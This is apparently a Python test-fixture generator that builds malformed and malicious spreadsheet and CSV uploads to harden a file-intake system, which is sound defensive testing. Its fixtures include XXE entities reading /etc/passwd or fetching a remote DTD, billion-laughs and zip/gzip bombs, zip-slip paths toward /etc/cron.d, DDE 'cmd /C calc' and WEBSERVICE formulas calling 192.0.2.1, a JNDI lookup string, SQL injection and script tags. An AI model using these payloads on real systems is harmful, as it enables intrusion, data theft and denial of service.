"""Makes hostile files: families of uploads that are wrong, broken, or made to do harm.

`families()` has the small ones, `big()` those that would take memory or time; each is made when
it is asked for, from code alone. `python -m tests.intake.hostile FOLDER` writes them all out.
"""

# ruff: noqa: E501 - one hostile file a line

from __future__ import annotations

import gzip
import io
import random
import struct
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from . import biff

READ = "read"
"""Expected: it may be read; its rows are right or refused one by one."""
ANY = "any"
"""Expected: read, or refused with any sentence: damage may hit what does not matter."""

NAMES = ("来源编号", "提出时间", "乡镇（街道）", "类别", "性质", "来源渠道", "责任单位", "事项内容")
GOOD = ("A-1", "2026-03-05", "东门街道", "欠薪", "申诉求决", "来访", "b02", "拖欠三个月工资。")
HEAD = ",".join(NAMES)
LINE = ",".join(GOOD)
CSV = f"{HEAD}\n{LINE}\n"


@dataclass(frozen=True)
class Hostile:
    """One file: its name, what it is, and what may come of it (`READ`, `ANY`, or keys)."""

    name: str
    data: bytes
    expected: str | tuple[str, ...]


def families() -> dict[str, Callable[[], Iterator[Hostile]]]:
    """The small files by what is wrong with them."""
    return {
        made.__name__.strip("_"): made
        for made in (
            _empty, _cut, _flipped, _other_kinds, _marked_up, _xml_attacks, _parts, _cells,
            _packages, _texts, _encodings, _moments, _packed,
        )
    }  # fmt: skip


# workbooks from raw XML, so that nothing of a library stands between


_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-'
    b'types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>'
)
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_M = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_ROOT = (
    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_RELS = (
    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_R}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{_R}/sharedStrings" Target="sharedStrings.xml"/>'
    f'<Relationship Id="rId3" Type="{_R}/styles" Target="styles.xml"/></Relationships>'
)
_BOOK = (
    f'<workbook xmlns="{_M}" xmlns:r="{_R}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/>'
    f"</sheets></workbook>"
)
_STYLES = (
    f'<styleSheet xmlns="{_M}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="22"/></cellXfs>'
    f"</styleSheet>"
)


def cell(text: str, ref: str = "") -> str:
    at = f' r="{ref}"' if ref else ""
    return f'<c{at} t="inlineStr"><is><t>{text}</t></is></c>'


def line(texts: tuple[str, ...] | list[str], more: str = "") -> str:
    return f"<row>{''.join(map(cell, texts))}{more}</row>"


def sheet(rows: str, before: str = "", after: str = "") -> str:
    return f'<worksheet xmlns="{_M}" xmlns:r="{_R}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'


def xlsx(
    rows: str = "", *, parts: dict[str, bytes | str | None] | None = None, level: int = 1
) -> bytes:
    """A workbook of one sheet; `parts` replaces or adds parts, None leaves one out."""
    found: dict[str, bytes | str | None] = {
        "[Content_Types].xml": _TYPES, "_rels/.rels": _ROOT, "xl/workbook.xml": _BOOK,
        "xl/_rels/workbook.xml.rels": _RELS, "xl/worksheets/sheet1.xml": sheet(rows),
        "xl/sharedStrings.xml": f'<sst xmlns="{_M}"><si><t>s</t></si></sst>',
        "xl/styles.xml": _STYLES,
    }  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as package:
        for name, content in (found | (parts or {})).items():
            if content is not None:
                package.writestr(name, content)
    return out.getvalue()


_ROWS = line(NAMES) + line(GOOD)
_GOOD_XLSX = xlsx(_ROWS)
_GOOD_XLS = biff.workbook([NAMES, GOOD])


def _with(part: str, content: bytes | str | None, rows: str = _ROWS) -> bytes:
    return xlsx(rows, parts={part: content})


# families


def _empty() -> Iterator[Hostile]:
    for number, data in enumerate(
        [b"", b" \n\t ", b"\r\n" * 500, b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", bytes(1000),
         b",,,,\n,,,,\n", xlsx(""), biff.workbook([])]
    ):  # fmt: skip
        yield Hostile(f"empty-{number}.csv", data, ("empty", "encoding", "no_header", "broken"))


def _cut() -> Iterator[Hostile]:
    for kind, data in (("xlsx", _GOOD_XLSX), ("xls", _GOOD_XLS)):
        for share in range(1, 9):
            yield Hostile(f"cut-{share}.{kind}", data[: len(data) * share // 9], ANY)
    packed = gzip.compress(CSV.encode(), mtime=0)
    for share in range(1, 6):
        yield Hostile(f"cut-{share}.csv.gz", packed[: len(packed) * share // 6], ("broken",))


def _flipped() -> Iterator[Hostile]:
    for kind, data in (("xlsx", _GOOD_XLSX), ("xls", _GOOD_XLS), ("csv", CSV.encode())):
        for seed in range(10):
            luck = random.Random(seed)
            spoiled = bytearray(data)
            for _ in range(luck.randint(1, 40)):
                spoiled[luck.randrange(len(spoiled))] = luck.randrange(256)
            yield Hostile(f"flipped-{seed}.{kind}", bytes(spoiled), ANY)


def _other_kinds() -> Iterator[Hostile]:
    kinds = {
        "png": b"\x89PNG\r\n\x1a\n", "jpg": b"\xff\xd8\xff\xe0\0\x10JFIF", "gif": b"GIF89a",
        "bmp": b"BM6\0\0\0", "tif": b"II*\0", "webp": b"RIFF\0\0\0\0WEBP", "pdf": b"%PDF-1.7",
        "rtf": b"{\\rtf1", "rar": b"Rar!\x1a\x07", "7z": b"7z\xbc\xaf\x27\x1c", "exe": b"MZ\x90",
        "so": b"\x7fELF", "bz2": b"BZh9", "xz": b"\xfd7zXZ\0", "db": b"SQLite format 3\0",
        "mp4": b"\0\0\0\x18ftypmp42", "class": b"\xca\xfe\xba\xbe", "wasm": b"\0asm\1\0\0\0",
    }  # fmt: skip
    for kind, mark in kinds.items():
        body = mark + random.Random(kind).randbytes(2000)
        yield Hostile(f"really-{kind}.csv", body, ("unknown_kind", "encoding"))
    yield Hostile("really-doc.xls", biff.container(b"w" * 5000, "WordDocument"), ("broken",))
    yield Hostile("no-container.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 99, ("broken",))


def _marked_up() -> Iterator[Hostile]:
    table = f"<table><tr><td>{'</td><td>'.join(NAMES)}</td></tr></table>"
    old = (
        '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'
    )
    laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    for number, text in enumerate(
        (table, f"<html>{table}</html>", f"<!DOCTYPE html>{table}", f"\n\n  <HTML>{table}", old,
         f"<meta charset=gbk>{table}", laughs)
    ):  # fmt: skip
        yield Hostile(f"web-{number}.xls", text.encode(), ("web_page",))
        yield Hostile(f"web-{number}-16.xls", text.encode("utf-16"), ("web_page",))
    yield Hostile("rows.json.csv", b'[{"a": 1}]', ("no_header",))


def _doctype(inside: str, name: str) -> str:
    return f'<?xml version="1.0"?><!DOCTYPE {name} [{inside}]>'


def _xml_attacks() -> Iterator[Hostile]:
    tens = [f"&l{n};" * 10 for n in range(11)]
    laughs = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{n} "{ten}">' for n, ten in enumerate(tens, 1)
    )
    outside = '<!ENTITY l11 SYSTEM "file:///etc/passwd">'
    remote = '<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p; <!ENTITY l11 "x">'
    long = f'<!ENTITY l11 "{"a" * 100_000}">'
    for what, inside in (
        ("laughs", laughs), ("outside", outside), ("remote", remote), ("long", long),
    ):  # fmt: skip
        rows = line(NAMES) + line([*GOOD[:-1], "&l11;" * (1 if what != "long" else 3000)])
        body = _doctype(inside, "worksheet") + sheet(rows)
        yield Hostile(f"xml-{what}-sheet.xlsx", _with("xl/worksheets/sheet1.xml", body), ANY)
        shared = _doctype(inside, "sst") + f'<sst xmlns="{_M}"><si><t>&l11;</t></si></sst>'
        yield Hostile(f"xml-{what}-shared.xlsx", _with("xl/sharedStrings.xml", shared), ANY)
        book = _doctype(inside, "workbook") + _BOOK.replace('"S"', '"&l11;"')
        yield Hostile(f"xml-{what}-book.xlsx", _with("xl/workbook.xml", book), ANY)
    deep = "<a>" * 50_000 + "</a>" * 50_000
    for what, content in {
        "deep": sheet(deep), "deep-in-row": sheet(f"<row>{deep}</row>"), "no-end": sheet(_ROWS)[:-20],
        "no-xml": "来源编号,提出时间", "nul": sheet(_ROWS).replace("A-1", "A\0-1"),
        "surrogate": sheet(_ROWS).replace("A-1", "&#xD800;"),
        "big-number": sheet(_ROWS).replace("A-1", "&#x7FFFFFFF;"),
        "unknown-entity": sheet(_ROWS).replace("A-1", "&nosuch;"),
        "attribute": sheet(_ROWS).replace("<row>", f'<row spans="{"9" * 500_000}">', 1),
        "comments": sheet("<!-- x -->" * 50_000 + _ROWS),
        "cdata": sheet(_ROWS).replace("A-1", "<![CDATA[<script>alert(1)</script>]]>"),
        "script": sheet(_ROWS).replace("A-1", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    }.items():  # fmt: skip
        yield Hostile(f"xml-{what}.xlsx", _with("xl/worksheets/sheet1.xml", content), ANY)
    for what, data in {
        "utf16": sheet(_ROWS).encode("utf-16"), "bad-utf8": sheet(_ROWS).encode()[:-40] + b"\xff\xfe",
        "gbk": sheet(_ROWS).encode("gbk"),
    }.items():  # fmt: skip
        yield Hostile(f"xml-{what}.xlsx", _with("xl/worksheets/sheet1.xml", data), ANY)


def _parts() -> Iterator[Hostile]:
    for part in (
        "[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
        "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml",
    ):  # fmt: skip
        yield Hostile(f"without-{part.rsplit('/')[-1]}.xlsx", _with(part, None), ANY)
    for number, target in enumerate(
        (
            "../../../../etc/passwd",
            "/etc/passwd",
            "file:///etc/passwd",
            "http://192.0.2.1/s.xml",
            "",
        )
    ):
        rels = _RELS.replace("worksheets/sheet1.xml", target)
        name = f"target-{number}.xlsx"
        yield Hostile(name, _with("xl/_rels/workbook.xml.rels", rels), ANY)
    hidden = _BOOK.replace('sheetId="1"', 'sheetId="1" state="veryHidden"')
    yield Hostile("hidden-only.xlsx", _with("xl/workbook.xml", hidden), ("empty",))
    many = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 3000))
    one = '<sheet name="S" sheetId="1" r:id="rId1"/>'
    yield Hostile("sheets-3000.xlsx", _with("xl/workbook.xml", _BOOK.replace(one, many)), READ)
    none = _BOOK.replace(one, "")
    yield Hostile("no-sheets.xlsx", _with("xl/workbook.xml", none), ("empty", "broken"))
    styles = _STYLES.replace('<xf numFmtId="0"/>', '<xf numFmtId="99999"/>' * 70_000)
    yield Hostile("styles-70000.xlsx", _with("xl/styles.xml", styles), READ)
    link = (
        f'<externalLink xmlns="{_M}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    yield Hostile("dde-link.xlsx", _with("xl/externalLinks/externalLink1.xml", link), READ)
    yield Hostile(
        "macros.xlsm", _with("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"v" * 9000), READ
    )


def _cells() -> Iterator[Hostile]:
    """One odd cell, after a row in which all is right."""
    odd = {
        "hyperlink": '<c t="str"><f>HYPERLINK("http://192.0.2.1/?"&amp;A1,"x")</f><v>x</v></c>',
        "dde": "<c t=\"str\"><f>cmd|' /C calc'!A0</f><v>0</v></c>",
        "no-value": "<c><f>NOW()</f></c>", "outside": "<c><f>[1]Other!A1</f><v>1</v></c>",
        "webservice": '<c t="str"><f>WEBSERVICE("http://192.0.2.1")</f><v>y</v></c>',
        "array": '<c><f t="array" ref="A1:XFD1048576">ROW(A1:A9)</f><v>1</v></c>',
        "circle": "<c><f>A2</f><v>7</v></c>", "nan": "<c><v>NaN</v></c>", "inf": "<c><v>INF</v></c>",
        "huge": "<c><v>1e308</v></c>", "over": "<c><v>1e999</v></c>", "words": "<c><v>abc</v></c>",
        "shared-far": '<c t="s"><v>99999999</v></c>', "shared-minus": '<c t="s"><v>-1</v></c>',
        "shared-word": '<c t="s"><v>x</v></c>', "bool": '<c t="b"><v>7</v></c>',
        "error": '<c t="e"><v>#REF!</v></c>', "no-type": '<c t="zzz"><v>1</v></c>',
        "iso": '<c t="d"><v>2026-99-99T99:99:99</v></c>', "style-far": '<c s="9999999"><v>1</v></c>',
        "style-minus": '<c s="-1"><v>1</v></c>', "date-minus": '<c s="1"><v>-46086</v></c>',
        "date-far": '<c s="1"><v>99999999999</v></c>', "date-1e300": '<c s="1"><v>1e300</v></c>',
        "date-zero": '<c s="1"><v>0</v></c>', "date-60": '<c s="1"><v>60</v></c>',
        "rich": '<c t="inlineStr"><is><r><t>a</t></r><r><t>b</t></r></is></c>',
        "cell-40000": cell("长" * 40_000), "cell-rtl": cell("\u202egpj.\u2066x"),
        "cell-unseen": cell("\u200b\u200c\u200d\ufeff"), "cell-controls": cell("a_x0007_b&#9;c&#13;"),
        "cell-zalgo": cell("乱" + "\u0301" * 20_000), "cell-emoji": cell("👨‍👩‍👧‍👦" * 500),
    }  # fmt: skip
    for what, extra in odd.items():
        rows = line(NAMES) + line(GOOD) + line([], extra) + line([*GOOD[:-1]], extra)
        yield Hostile(f"cell-{what}.xlsx", xlsx(rows), ANY)
    refs = ("ZZZZ9999999999", "A0", "A-1", "1A", "$A$1", "é1", "A1:B2", "XFE1", "A4294967297")
    for number, ref in enumerate(refs):
        rows = line(NAMES) + line(GOOD) + f"<row>{cell('x', ref)}</row>"
        yield Hostile(f"ref-{number}.xlsx", xlsx(rows), ANY)
    for row in ("0", "-5", "x", "4294967297", "1"):
        rows = line(NAMES) + line(GOOD).replace("<row>", f'<row r="{row}">')
        yield Hostile(f"row-{row}.xlsx", xlsx(rows), ANY)
    spans = ("A1:XFD1048576", "H9:A1", "A1", "A1:A99999999", "", "1:2", "A2:A3")
    for number, span in enumerate(spans):
        merged = f'<mergeCells><mergeCell ref="{span}"/></mergeCells>'
        body = sheet(_ROWS, after=merged)
        name = f"merged-{number}.xlsx"
        yield Hostile(name, _with("xl/worksheets/sheet1.xml", body), ANY)
    many = "<mergeCells>" + '<mergeCell ref="A1:H2"/>' * 30_000 + "</mergeCells>"
    body = sheet(_ROWS, '<dimension ref="A1:XFD1048576"/>', many)
    yield Hostile("merged-30000.xlsx", _with("xl/worksheets/sheet1.xml", body), READ)
    yield Hostile("date-far.xls", biff.workbook([NAMES, [(1e300, "date"), *GOOD[1:]]]), ANY)
    yield Hostile("date-minus.xls", biff.workbook([NAMES, [(-1e6, "date"), *GOOD[1:]]]), ANY)
    yield Hostile("locked.xls", biff.workbook([NAMES, GOOD], locked=True), ("locked",))
    yield Hostile("locked.xlsx", biff.container(b"e" * 9000, "EncryptedPackage"), ("locked",))
    wide = [(0, 65535, 0, 255)] * 1000
    yield Hostile("merged.xls", biff.workbook([NAMES, GOOD], wide), ANY)
    for kind in (0x0085, 0x00FC, 0x00FD, 0x0200, 0x0203, 0x00E5, 0x00E0, 0x041E):
        stream = biff.stream([NAMES, [*GOOD[:-1], 7]], [(1, 1, 0, 1)])
        spoiled = stream.replace(struct.pack("<H", kind), struct.pack("<HH", kind, 0xFFFF), 1)
        yield Hostile(f"record-{kind:04x}.xls", biff.container(spoiled), ANY)


def _packages() -> Iterator[Hostile]:
    inner = xlsx(_ROWS)
    for depth in range(4):
        inner = _zip({f"inside-{depth}.xlsx": inner})
        yield Hostile(f"nested-{depth}.xlsx", inner, ("broken",))
    yield Hostile("nothing-inside.xlsx", _zip({}) + bytes(40), ("broken", "encoding", "empty"))
    yield Hostile("docx.xlsx", _zip({"word/document.xml": b"<w/>"}), ("broken",))
    yield Hostile("up.xlsx", xlsx(_ROWS, parts={"../../../../tmp/up.txt": b"x"}), READ)
    yield Hostile("root.xlsx", xlsx(_ROWS, parts={"/etc/cron.d/up": b"x"}), READ)
    yield Hostile("windows.xlsx", xlsx(_ROWS, parts={"C:\\Windows\\up": b"x"}), READ)
    yield Hostile("long-name.xlsx", xlsx(_ROWS, parts={"a" * 60_000: b"x"}), READ)
    yield Hostile("many-parts.xlsx", xlsx(_ROWS, parts={f"x/{n}": b"" for n in range(5000)}), READ)
    yield Hostile("before.xlsx", b"PK\x03\x04junk" + _GOOD_XLSX, ANY)
    yield Hostile("after.xlsx", _GOOD_XLSX + b"junk" * 100, ANY)
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield Hostile(f"method-{method}.xlsx", _again(_GOOD_XLSX, method), ANY)
    for what, place, value in (
        ("method-99", 8, 99), ("locked-flag", 6, 1), ("crc", 14, 7), ("version", 4, 999),
    ):  # fmt: skip
        spoiled = bytearray(_GOOD_XLSX)
        struct.pack_into("<H", spoiled, place, value)
        central = spoiled.index(b"PK\x01\x02")
        struct.pack_into("<H", spoiled, central + place + 2, value)
        yield Hostile(f"zip-{what}.xlsx", bytes(spoiled), ANY)
    bombs = bytearray(_GOOD_XLSX)
    struct.pack_into("<I", bombs, bombs.index(b"PK\x01\x02") + 24, 0x7FFFFFFF)
    yield Hostile("declares-2gb.xlsx", bytes(bombs), ("too_big",))


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def _again(data: bytes, method: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as package, zipfile.ZipFile(out, "w", method) as made:
        for part in package.infolist():
            made.writestr(part.filename, package.read(part))
    return out.getvalue()


def _texts() -> Iterator[Hostile]:
    quote = '"'
    texts: dict[str, tuple[str, str | tuple[str, ...]]] = {
        "no-end": (f"{CSV}{quote}A-2,{LINE * 5000}", ANY), "quotes": (CSV.replace("A-1", '"A"-"1'), ANY),
        "only-quotes": (quote * 5001, ANY), "quoted-breaks": (CSV.replace("A-1", '"A\r\n\n-1"'), READ),
        "giant-line": ("x" * 3_000_000, ("quotes", "no_header")),
        "giant-cell": (CSV.replace("拖欠", "拖" * 120_000), READ),
        "wide": (HEAD + "," * 300_000 + "\n" + LINE, READ),
        "wide-names": (",".join([HEAD, *(f"列{n}" for n in range(400))]), ("too_many_columns",)),
        "mixed-ends": (f"{HEAD}\r{LINE}\n\r{LINE}\r\n{LINE}", READ), "returns": (CSV.replace("\n", "\r"), READ),
        "commas": ("," * 1_000_000, ANY), "lines": ("\n" * 1_000_000 + CSV, ANY),
        "separator": (f"sep=;\n{CSV.replace(',', ';')}", READ), "ctrl-z": (CSV + "\x1a", READ),
        "header-only": (HEAD, READ), "header-twice": (f"{HEAD},{HEAD}\n{LINE},{LINE}", READ),
        "header-late": ("题目\n" * 40 + CSV, ("no_header",)), "no-header": (LINE, ("no_header",)),
        "blank-names": (f",,{HEAD},,\n,,{LINE},,", READ), "repeated": (HEAD + f"\n{LINE}" * 3000, READ),
        "nul": (CSV.replace("A-1", "A\0-1"), ("encoding", "empty")), "controls": (CSV.replace("A-1", "\x01\x02\x03\x04\x05"), ANY),
        "esc": (CSV.replace("A-1", "\x1b[31mA-1\x1b]0;title\x07"), READ),
        "rtl": (CSV.replace("A-1", "\u202e1-A\u202c"), READ), "unseen": (CSV.replace("类别", "类\u200b别"), READ),
        "script": (CSV.replace("A-1", "<script>alert(1)</script>"), READ),
        "markdown": (CSV.replace("A-1", "[x](javascript:alert(1)) :material/delete: $x$"), READ),
        "sql": (CSV.replace("A-1", "'); DROP TABLE case_version;--"), READ),
        "braces": (CSV.replace("A-1", "{field} %s {0.__class__} ${jndi:ldap://192.0.2.1}"), READ),
        "path": (CSV.replace("A-1", "../../etc/passwd"), READ), "noncharacter": (CSV.replace("A-1", "A\uffff\ufffe"), READ),
        "formula-name": (CSV.replace("类别", '=HYPERLINK("http://192.0.2.1")'), READ),
        "person-name": (CSV.replace("类别", "类别,联系人张建国13812345678"), READ),
        "long-name": (CSV.replace("类别", "类别," + "长" * 100_000), READ),
        "digits": (CSV.replace("拖欠", "1" * 100_000), READ), "spaces": (CSV.replace("拖欠", "拖" + " " * 100_000 + "欠"), READ),
        "long-number": (CSV.replace("A-1", "9" * 100_000), READ), "at-signs": (CSV.replace("拖欠", "a@" * 900), READ),
    }  # fmt: skip
    for what, (text, expected) in texts.items():
        yield Hostile(f"text-{what}.csv", text.encode("utf-8", "surrogatepass"), expected)
    for mark in ("=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "%0A=1"):
        yield Hostile(
            f"formula-{ord(mark[0])}-{len(mark)}.csv", CSV.replace("A-1", mark).encode(), READ
        )


def _encodings() -> Iterator[Hostile]:
    western = "Asked at,Category\n2026-03-05,café élève naïve déjà\n"
    for name, data in {
        "mixed-1": CSV.encode() + CSV.encode("gbk"), "mixed-2": CSV.encode("gbk") + CSV.encode(),
        "mixed-4": CSV.encode() + b"\xff\xfe\xfa",
        "latin": western.encode("latin-1"), "utf-32": CSV.encode("utf-32"),
        "utf-32-be": CSV.encode("utf-32-be"), "half-16": CSV.encode("utf-16")[:-1],
        "big5": "Asked at,Category\n2026-03-05,積欠工資三個月請處理\n".encode("big5"),
        "sjis": "Asked at,Category\n2026-03-05,未払いの賃金です\n".encode("shift-jis"),
        "overlong": CSV.encode().replace(b"A-1", b"\xc0\x80\xe0\x80\x80"),
        "cesu": CSV.encode().replace(b"A-1", b"\xed\xa0\x80\xed\xb0\x80"), "cut-char": CSV.encode()[:-3],
        "marks": b"\xef\xbb\xbf" * 3 + b"\xff\xfe" + CSV.encode(),
    }.items():  # fmt: skip
        yield Hostile(f"encoding-{name}.csv", data, ("encoding",))
    for name, data in {"ebcdic": CSV.encode("utf-7"), "cp037": b"\x81\x82\x83" * 50}.items():
        yield Hostile(f"encoding-{name}.csv", data, ("encoding", "no_header", "empty"))


def _moments() -> Iterator[Hostile]:
    for number, text in enumerate(
        ("-1", "0", "99999", "99999999", "1e400", "NaN", "inf", "0000-00-00", "9999-12-31",
         "2026-02-30", "2026-13-01", "2026-03-05 25:61", "-2026-03-05", "20260230", "2026年13月1日",
         "２０２６年３月５日", "2026-03-05T10:00+99:99", "2026-03-05 10:00 Mars/Phobos", "昨天", "05/03/26",
         "9" * 5000, "2026-03-05" * 500)
    ):  # fmt: skip
        yield Hostile(f"moment-{number}.csv", CSV.replace("2026-03-05", text).encode(), READ)


def _packed() -> Iterator[Hostile]:
    twice = gzip.compress(gzip.compress(CSV.encode()))
    yield Hostile("twice.csv.gz", twice, ("encoding", "no_header"))
    yield Hostile("workbook.gz", gzip.compress(_GOOD_XLSX), READ)
    yield Hostile("nothing.gz", gzip.compress(b""), ("empty",))
    yield Hostile("many.gz", gzip.compress(CSV.encode()) * 2, READ)
    yield Hostile("not.gz", b"\x1f\x8b" + b"x" * 500, ("broken",))


def big() -> dict[str, tuple[Callable[[], bytes], tuple[str, ...]]]:
    """Files that ask for memory or time: how each is made, and what may be said."""
    row, heads = line(GOOD), line(NAMES)
    return {
        "rows-1000000.xlsx": (lambda: xlsx(heads + row * 200_000 + "<row><c><v>1</v></c></row>" * 800_000), ("too_big", "too_many_rows")),
        "rows-1000000.csv": (lambda: (HEAD + "\n甲,2026-03-05" * 1_000_000).encode(), ("too_many_rows",)),
        "rows-1000000.csv.gz": (lambda: gzip.compress((CSV + LINE[:40] + "\n" + "a,b\n" * 1_000_000).encode(), 1), ("too_many_rows",)),
        "columns-1000000.csv": (lambda: (HEAD + "\n" + "1," * 1_000_000).encode(), ("too_many_columns",)),
        "columns-200000.xlsx": (lambda: xlsx(heads + f"<row>{'<c><v>1</v></c>' * 200_000}</row>"), ("too_many_columns", "too_heavy", "broken")),
        "far-cell.xlsx": (lambda: xlsx(heads + f'<row r="1048576">{cell("x", "XFD1048576")}</row>'), ("too_heavy", "too_many_columns", "broken")),
        "far-cell.xls": (lambda: biff.workbook([*[[]] * 65_535, [*[""] * 255, "x"]]), ("too_many_columns", "too_heavy", "no_header")),
        "bomb-declared.xlsx": (lambda: _inflated(_GOOD_XLSX, "xl/media/x.bin", 320), ("too_big",)),
        "bomb-part.xlsx": (lambda: _inflated(xlsx(parts={_SHEET: None}), _SHEET, 250), ("empty", "broken", "too_heavy")),
        "bomb-lying.xlsx": (_lying, ("too_heavy", "broken", "too_big")),
        "bomb.csv.gz": (lambda: gzip.compress(bytes(130 * 2**20), 1), ("too_big",)),
        "shared-once.xlsx": (lambda: _shared("长" * 32_000, 120_000), ("too_heavy",)),
        "shared-100000.xlsx": (_many_shared, ("read",)),
        "cells.csv.gz": (lambda: gzip.compress((HEAD + ("\n" + "ab," * 150) * 30_000).encode(), 1), ("too_heavy",)),
    }  # fmt: skip


_SHEET = "xl/worksheets/sheet1.xml"


def _inflated(data: bytes, name: str, megabytes: int) -> bytes:
    """A workbook with one more part, of that many megabytes of spaces within a sheet."""
    out = io.BytesIO(data)
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as package,
        package.open(name, "w") as part,
    ):
        part.write(sheet("").replace("</sheetData></worksheet>", "").encode())
        for _ in range(megabytes):
            part.write(b" " * 2**20)
        part.write(b"</sheetData></worksheet>")
    return out.getvalue()


def _lying() -> bytes:
    """The same bomb, with a list of parts that says each has a thousand bytes."""
    data = bytearray(_inflated(xlsx(parts={_SHEET: None}), _SHEET, 320))
    at = data.index(b"PK\x01\x02")
    while data[at : at + 4] == b"PK\x01\x02":
        struct.pack_into("<I", data, at + 24, 1000)
        lengths = struct.unpack_from("<HHH", data, at + 28)
        at += 46 + sum(lengths)
    return bytes(data)


def _shared(text: str, count: int) -> bytes:
    rows = line(NAMES) + '<row><c t="s"><v>0</v></c></row>' * count
    shared = f'<sst xmlns="{_M}"><si><t>{text}</t></si></sst>'
    return xlsx(rows[: rows.rindex("<row>")], parts={"xl/sharedStrings.xml": shared})


def _many_shared() -> bytes:
    rows = "".join(f'<row><c t="s"><v>{n}</v></c>{cell("2026")}</row>' for n in range(0, 99_000, 4))
    shared = "".join(f"<si><t>编号{n}</t></si>" for n in range(100_000))
    body = f'<sst xmlns="{_M}">{shared}</sst>'
    return xlsx(line(NAMES) + rows, parts={"xl/sharedStrings.xml": body})


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for family in families().values():
        for one in family():
            (folder / one.name).write_bytes(one.data)
    for name, (make, _) in big().items():
        (folder / name).write_bytes(make())
